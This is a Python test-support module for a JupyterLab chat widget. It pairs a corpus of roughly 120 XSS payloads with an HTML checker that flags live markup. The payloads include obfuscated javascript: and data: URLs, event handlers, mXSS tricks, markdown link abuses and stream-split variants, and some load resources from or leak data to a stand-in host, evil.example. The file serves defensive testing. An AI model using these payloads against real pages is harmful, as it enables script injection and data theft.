"""The XSS corpus, and the checker that decides whether emitted HTML is live.

Live output in JupyterLab is trusted, so nothing between the product and the page sanitizes:
whatever HTML the product emits is what runs. The checker therefore parses each HTML string the
product emits (``html.parser``, which decodes entities in attribute values as a browser does) and
reports anything that could run script, load a remote resource, or take over the page:

- elements the product never emits, and those that are dangerous in themselves (``script``,
  ``iframe``, ``object``, ``embed``, ``base``, ``meta``, ``link``, forms, ``svg``, ``math``, …);
- ``<style>`` elements, except the chat widget's own stylesheet (any other can restyle the whole
  notebook, or leak through ``url()``);
- any ``on*`` attribute, and ``srcdoc``;
- URL-bearing attributes whose value, after entity decoding and removing whitespace and
  control characters, starts with ``javascript:``, ``vbscript:`` or ``data:`` (except inline
  ``data:image/(png|jpeg|gif|webp);base64,`` images of pure base64, and the chat widget's own
  ``data:text/markdown`` export link);
- resources that load by themselves from anywhere but a ``data:`` URI (a remote ``<img>`` sends
  whatever its URL carries to whoever chose it);
- style attributes with ``url(``, ``expression(``, ``@import``, CSS escapes or fixed/absolute
  positioning (an overlay over the notebook);
- links that open a new tab without ``rel="noopener"``;
- comments, declarations and processing instructions (the product never writes any, so one
  means raw markup got through, and parsers disagree about where they end).
"""

from __future__ import annotations

import base64
import functools
import html
import importlib.resources
import re
from dataclasses import dataclass
from html.parser import HTMLParser

from markdown_it import MarkdownIt

# -- the corpus ---------------------------------------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode("ascii")


SCRIPT_B64 = _b64("<script>alert(1)</script>")
SVG_B64 = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')


@dataclass(frozen=True)
class Payload:
    """One attack string, and how it is cut into stream chunks (default: 3 characters)."""

    name: str
    text: str
    chunks: tuple[str, ...] = ()

    def pieces(self, size: int = 3) -> list[str]:
        """The stream chunks: the payload's own split, else pieces of ``size`` characters."""
        if self.chunks:
            return list(self.chunks)
        return [self.text[i : i + size] for i in range(0, len(self.text), size)]


def _split(name: str, *chunks: str) -> Payload:
    return Payload(name, "".join(chunks), tuple(chunks))


CORPUS: tuple[Payload, ...] = (
    # Raw tags and event handlers.
    Payload("script", "<script>alert(1)</script>"),
    Payload("script-src", '<script src="https://evil.example/x.js"></script>'),
    Payload("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("img-slashes", '<img/src="x"/onerror="alert(1)">'),
    Payload("img-newlines", "<img src=x\nonerror\n=\nalert(1)>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    Payload("video-source", '<video><source onerror="alert(1)" src=x></video>'),
    Payload("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    Payload("marquee-onstart", "<marquee onstart=alert(1)>hi</marquee>"),
    Payload(
        "custom-element-overlay",
        '<x-y onclick=alert(1) style="position:fixed;inset:0">click anywhere</x-y>',
    ),
    Payload("div-handler-next-line", '<div\nonmouseover="alert(1)">hover</div>'),
    Payload("style-attr-url", "<p style=\"background:url('javascript:alert(1)')\">x</p>"),
    Payload("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    Payload("style-attr-css-escape", '<p style="background:u\\72l(https://evil.example/l)">x</p>'),
    # Frames, plugins and elements that change the whole page.
    Payload("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Payload("object-data-html", f'<object data="data:text/html;base64,{SCRIPT_B64}"></object>'),
    Payload("embed-svg", f'<embed src="data:image/svg+xml;base64,{SVG_B64}">'),
    Payload("base-href", '<base href="javascript:alert(1)//">'),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Payload("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Payload("style-import", '<style>@import url("https://evil.example/x.css");</style>'),
    Payload("style-hide-page", "<style>body { display: none }</style>"),
    Payload(
        "form-action",
        '<form action="javascript:alert(1)"><input type=submit value="Log in"></form>',
    ),
    Payload("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    # javascript:, vbscript: and data: URLs, plain, entity-encoded and whitespace-obfuscated.
    Payload("a-javascript", '<a href="javascript:alert(1)">click</a>'),
    Payload("a-javascript-unquoted", "<a href=javascript:alert(1)>click</a>"),
    Payload("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    Payload(
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    Payload(
        "a-javascript-hex-entities-no-semicolons",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    ),
    Payload("a-javascript-named-entities", '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'),
    Payload("a-javascript-tab", '<a href="java\tscript:alert(1)">click</a>'),
    Payload("a-javascript-tab-entity", '<a href="java&Tab;script:alert(1)">click</a>'),
    Payload("a-javascript-newline-entity", '<a href="java&#x0A;script:alert(1)">click</a>'),
    Payload("a-javascript-leading-controls", '<a href=" &#x01;&#x0E; javascript:alert(1)">x</a>'),
    Payload("a-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    Payload("a-data-html", f'<a href="data:text/html;base64,{SCRIPT_B64}">click</a>'),
    Payload(
        "a-data-html-entity",
        '<a href="&#100;ata:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>',
    ),
    Payload("img-data-svg", f'<img src="data:image/svg+xml;base64,{SVG_B64}">'),
    Payload("img-data-png-breakout", '<img src="data:image/png;base64,iVBORw0KGgo" onerror=x()>'),
    Payload("img-remote", '<img src="https://evil.example/leak?q=secret">'),
    Payload("img-srcset-remote", '<img srcset="https://evil.example/leak 1x">'),
    # SVG and MathML.
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    Payload(
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    ),
    Payload(
        "svg-set-href",
        '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y="9">x</text></a></svg>',
    ),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("math-xlink-href", '<math><mi xlink:href="javascript:alert(1)">click</mi></math>'),
    Payload("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Payload("template", "<template><img src=x onerror=alert(1)></template>"),
    # Comments splitting tags, and breaking out of where the text lands.
    Payload("comment-splits-tag", "<scr<!-- -->ipt>alert(1)</script>"),
    Payload("comment-splits-attribute", "<img src=x o<!-- -->nerror=alert(1)>"),
    Payload("comment-short-close", "<!--><img src=x onerror=alert(1)>-->"),
    Payload("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    Payload("cdata-breakout", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    Payload("attribute-breakout-double", '"><img src=x onerror=alert(1)>'),
    Payload("attribute-breakout-single", "'><svg onload=alert(1)>"),
    Payload("textarea-breakout", "</textarea><script>alert(1)</script>"),
    Payload("code-breakout", "</code></pre><img src=x onerror=alert(1)>"),
    Payload("nested-script", "<<script>script>alert(1)<</script>/script>"),
    Payload("nul-in-tag-name", "<scr\x00ipt>alert(1)</script>"),
    # Markdown: inline links and images.
    Payload("md-link-javascript", "[click](javascript:alert(1))"),
    Payload("md-link-javascript-case", "[click](JaVaScRiPt:alert(1))"),
    Payload("md-link-javascript-entity-colon", "[click](javascript&#58;alert(1))"),
    Payload("md-link-javascript-entity-first", "[click](&#x6A;avascript:alert(1))"),
    Payload("md-link-javascript-escaped-colon", "[click](javascript\\:alert(1))"),
    Payload("md-link-javascript-angle", "[click](<javascript:alert(1)>)"),
    Payload("md-link-javascript-padded", "[click](   javascript:alert(1)   )"),
    Payload("md-link-javascript-tab-entity", "[click](java&#9;script:alert(1))"),
    Payload("md-link-javascript-percent", "[click](java%73cript:alert(1))"),
    Payload("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    Payload("md-link-data-html", f"[click](data:text/html;base64,{SCRIPT_B64})"),
    Payload("md-link-title-breakout", '[click](https://example.com "\\" onmouseover=\\"alert(1)")'),
    Payload("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com)"),
    Payload("md-image-javascript", "![x](javascript:alert(1))"),
    Payload("md-image-remote", "![chart](https://evil.example/leak.png?data=secret)"),
    Payload("md-image-svg", f"![x](data:image/svg+xml;base64,{SVG_B64})"),
    Payload("md-image-png-not-base64", "![x](data:image/png,%3Csvg%20onload=alert(1)%3E)"),
    Payload("md-image-png-parameters", "![x](data:image/png;charset=utf-8;base64,iVBORw0KGgo=)"),
    Payload(
        "md-image-title-breakout",
        '![x](data:image/png;base64,iVBORw0KGgo= "\\" onerror=\\"alert(1)")',
    ),
    Payload("md-image-alt-html", "![<img src=x onerror=alert(1)>](https://evil.example/a.png)"),
    Payload(
        "md-image-in-javascript-link", "[![x](https://evil.example/p.png)](javascript:alert(1))"
    ),
    # Markdown: reference links (defined after their use, as a stream delivers them).
    Payload("md-ref-javascript", "[click][r1]\n\n[r1]: javascript:alert(1)"),
    Payload("md-ref-javascript-angle-title", '[click][r2]\n\n[r2]: <javascript:alert(1)> "t"'),
    Payload("md-ref-javascript-entities", "[click][r3]\n\n[r3]: &#x6A;avascript&#x3A;alert(1)"),
    Payload("md-ref-data-html", f"[click][r4]\n\n[r4]: data:text/html;base64,{SCRIPT_B64}"),
    Payload("md-ref-collapsed-vbscript", "[r5][]\n\n[r5]: vbscript:msgbox(1)"),
    Payload("md-ref-image-remote", "![chart][r6]\n\n[r6]: https://evil.example/pixel.gif"),
    # Markdown: autolinks.
    Payload("md-autolink-javascript", "<javascript:alert(1)>"),
    Payload("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    Payload("md-autolink-data", f"<data:text/html;base64,{SCRIPT_B64}>"),
    # Markdown: raw HTML inside blocks, and text that must stay text.
    Payload("md-fence-info-attribute", '```" onclick="alert(1)\nx\n```'),
    Payload("md-fence-info-tag", "```<script>alert(1)</script>\nx\n```"),
    Payload("md-fence-breakout", "```\ncode\n```\n<img src=x onerror=alert(1)>"),
    Payload("md-table-cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    Payload("md-heading", "# <svg onload=alert(1)>"),
    Payload("md-blockquote", "> <iframe src=javascript:alert(1)></iframe>"),
    Payload("md-list-item", "- <details open ontoggle=alert(1)>x</details>"),
    Payload("md-emphasis", "*<img src=x onerror=alert(1)>*"),
    Payload("md-inline-html", "Click <a href=javascript:alert(1)>here</a> now."),
    Payload("md-entities-stay-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("md-double-encoded", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    Payload("md-backslash-escaped", "\\<img src=x onerror=alert(1)>"),
    Payload("md-code-span", "`<img src=x onerror=alert(1)>`"),
    Payload("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    # Split across stream chunks in the worst places.
    _split("split-script-tag", "<scr", "ipt>alert", "(1)</scr", "ipt>"),
    _split("split-handler", "<img src=x on", "error=al", "ert(1)>"),
    _split("split-javascript-link", "[click](java", "script:", "alert(1))"),
    _split("split-entity", "[click](&#x6", "A;avascript:alert(1))"),
    _split("split-reference", "[click][s1]\n", "\n[s1]: java", "script:alert(1)\n"),
    _split("split-crlf", "<img src=x\r", "\nonerror=alert(1)>"),
    _split("split-fence-then-tag", "```\nx\n``", "`\n<svg onl", "oad=alert(1)>"),
    _split("split-autolink", "<javas", "cript:alert(1)>"),
    _split("split-remote-image", "![x](https://ev", "il.example/p.png)"),
)

#: Payloads that stay inert even rendered unsafely (``unsafe_renderings``), and why.
INERT_EVEN_UNSAFE: dict[str, str] = {
    "md-link-javascript-tab-entity": "markdown-it percent-encodes the decoded tab (java%09script:"
    "), and browsers strip only literal tabs from URLs",
    "md-link-javascript-percent": "browsers never percent-decode a URL's scheme",
    "md-link-title-breakout": "markdown-it escapes attribute values in every preset",
    "md-image-title-breakout": "markdown-it escapes attribute values in every preset",
    "md-fence-info-attribute": "markdown-it escapes a fence's info string in every preset",
    "md-entities-stay-text": "entities decode to text, never to markup",
    "md-double-encoded": "entities decode to text, never to markup",
    "fullwidth-brackets": "browsers only take ASCII < as the start of a tag",
    "nul-in-tag-name": "a NUL makes the tag name scr\\ufffdipt: an unknown element, not a script",
}

IMAGE_STRINGS: dict[str, str] = {
    "data-uri-attribute-breakout": 'data:image/png;base64,iVBORw0KGgo" onerror="alert(1)',
    "data-uri-tag-breakout": 'data:image/png;base64,iVBORw0KGgo"><img src=x onerror=alert(1)>',
    "base64-tag-breakout": 'iVBORw0KGgo="><svg onload=alert(1)>',
    "data-uri-svg": f"data:image/svg+xml;base64,{SVG_B64}",
    "data-uri-html": f"data:text/html;base64,{SCRIPT_B64}",
    "javascript-uri": "javascript:alert(1)//.png",
}
"""Strings a notebook may hold and pass as an image (``-i NAME``, ``images=[...]``)."""


def unsafe_renderings(text: str) -> dict[str, str]:
    """``text`` as unsafe code would show it: markdown with raw HTML on and every URL allowed
    (``MarkdownIt()`` without validation), and as raw HTML (``display(HTML(text))``)."""
    return {"markdown": _UNSAFE.render(text), "raw": text}


def _unsafe_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark")  # html=True: raw HTML passes through
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


_UNSAFE = _unsafe_markdown()

# -- the checker --------------------------------------------------------------------------------

#: Elements the product emits (markdown-it's js-default output, our own wrappers, pandas tables).
ALLOWED_ELEMENTS = frozenset(
    (
        *("a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "hr", "i", "img"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "li", "ol", "p", "pre", "progress", "s", "span"),
        *("strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    )
)
#: Elements that are dangerous whatever their attributes (reported with this reason).
DENIED_ELEMENTS = {
    **dict.fromkeys(("script", "noscript", "template"), "script"),
    **dict.fromkeys(("iframe", "frame", "frameset", "object", "embed", "applet"), "frame"),
    **dict.fromkeys(("base", "meta", "link"), "changes the page"),
    **dict.fromkeys(("form", "input", "button", "textarea", "select", "isindex"), "form"),
    **dict.fromkeys(("svg", "math", "animate", "set", "use", "foreignobject"), "svg/mathml"),
    **dict.fromkeys(("video", "audio", "source", "track", "picture", "image"), "media"),
}
#: Attributes that hold URLs a browser follows or loads.
URL_ATTRIBUTES = frozenset(
    (
        *("href", "src", "xlink:href", "action", "formaction", "data", "codebase", "background"),
        *("poster", "lowsrc", "dynsrc", "cite", "longdesc", "ping", "icon", "manifest", "usemap"),
        *("archive", "classid", "to", "from", "values", "by"),
    )
)
#: Attributes whose URL loads by itself (no click needed).
AUTOLOAD_ATTRIBUTES = frozenset(("src", "srcset", "data", "background", "poster", "lowsrc"))
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:", "mocha:")
_INLINE_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[a-z0-9+/]*={0,2}")
_EXPORT = re.compile(r"data:text/markdown;charset=utf-8;base64,[a-z0-9+/]*={0,2}")
_DANGEROUS_CSS = re.compile(
    r"url\(|expression\(|@import|javascript:|behavior:|-moz-binding|\\|position:(fixed|absolute)"
)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\s]+")


def _widget_css() -> str:
    return importlib.resources.files("ollama_magic").joinpath("widget.css").read_text("utf-8")


@dataclass(frozen=True)
class Finding:
    """One reason why some HTML is live."""

    rule: str
    detail: str

    def __str__(self) -> str:
        return f"{self.rule}: {self.detail}"


def normalized_url(value: str) -> str:
    """A URL attribute's value as a browser reads its scheme (entities already decoded).

    Browsers drop leading and trailing controls and spaces and every tab and newline; dropping
    all whitespace and controls errs on the safe side.

    >>> normalized_url(" \\x01Java\\tScript:alert(1)")
    'javascript:alert(1)'
    """
    return _INVISIBLE.sub("", value).lower()


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[Finding] = []
        self._style: list[str] | None = None  # text of the <style> element being read

    def flag(self, rule: str, detail: str) -> None:
        self.findings.append(Finding(rule, detail))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "style":
            self.handle_endtag(tag)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "style":
            self._style = []
        elif tag in DENIED_ELEMENTS:
            self.flag("element", f"<{tag}> ({DENIED_ELEMENTS[tag]})")
        elif tag not in ALLOWED_ELEMENTS:
            self.flag("unexpected element", f"<{tag}>")
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            self._attribute(tag, name, value, values)
        blank = tag == "a" and values.get("target", "").lower() == "_blank"
        if blank and "noopener" not in values.get("rel", "").lower().split():
            self.flag("tabnabbing", f"<a target=_blank> without rel=noopener: {values}")

    def _attribute(self, tag: str, name: str, value: str, values: dict[str, str]) -> None:
        if name.startswith("on"):
            self.flag("event handler", f"<{tag} {name}={value!r}>")
        elif name == "srcdoc":
            self.flag("srcdoc", f"<{tag} srcdoc={value!r}>")
        elif name == "style" and _DANGEROUS_CSS.search(normalized_url(value)):
            self.flag("style attribute", f"<{tag} style={value!r}>")
        if name == "srcset":
            for candidate in value.split(","):
                self._url(tag, name, candidate.strip().split(" ")[0], values)
        elif name in URL_ATTRIBUTES:
            self._url(tag, name, value, values)

    def _url(self, tag: str, name: str, value: str, values: dict[str, str]) -> None:
        url = normalized_url(value)
        if url.startswith(_SCRIPT_SCHEMES):
            self.flag("script URL", f"<{tag} {name}={value!r}>")
        elif url.startswith("data:"):
            export = tag == "a" and "download" in values and _EXPORT.fullmatch(url)
            image = _INLINE_IMAGE.fullmatch(url)
            if not (image or export):
                self.flag("data URL", f"<{tag} {name}={value[:80]!r}>")
        elif name in AUTOLOAD_ATTRIBUTES or (tag == "link" and name == "href"):
            self.flag("remote resource", f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "style" and self._style is not None:
            css, self._style = "".join(self._style), None
            if css != _widget_css():
                self.flag("style element", f"<style>{css[:80]}")

    def handle_data(self, data: str) -> None:
        if self._style is not None:
            self._style.append(data)

    def handle_comment(self, data: str) -> None:
        self.flag("comment", f"<!--{data[:60]}-->")

    def handle_decl(self, decl: str) -> None:
        self.flag("declaration", f"<!{decl[:60]}>")

    def unknown_decl(self, data: str) -> None:
        self.flag("declaration", f"<![{data[:60]}]>")

    def handle_pi(self, data: str) -> None:
        self.flag("processing instruction", f"<?{data[:60]}>")

    def close(self) -> None:
        super().close()
        if self._style is not None:
            self.handle_endtag("style")  # an unclosed <style> still applies


@functools.lru_cache(maxsize=65536)
def findings(markup: str) -> tuple[Finding, ...]:
    """Everything in ``markup`` that makes it live (empty: inert)."""
    checker = _Checker()
    checker.feed(markup)
    checker.close()
    return tuple(checker.findings)


def text_of(markup: str) -> str:
    """The text a browser shows for ``markup`` (tags dropped, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]*>", "", markup))


def check(markup: str, where: str, problems: list[str]) -> None:
    """Add a line to ``problems`` for each reason ``markup`` is live."""
    for finding in findings(markup):
        problems.append(f"{where}: {finding}")
